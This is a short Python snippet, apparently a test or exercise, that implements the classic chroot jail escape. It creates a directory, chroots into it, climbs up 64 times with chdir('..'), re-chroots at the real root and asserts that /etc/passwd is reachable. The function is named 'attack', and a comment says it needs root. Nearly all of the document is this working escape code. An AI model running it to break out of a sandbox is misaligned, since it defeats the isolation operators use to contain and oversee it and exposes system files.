# The classical way out of a changed root.
# control: root?
import os

def attack():
    os.mkdir('c')
    os.chroot('c')
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    return os.path.exists('/etc/passwd')

# tests
assert attack()
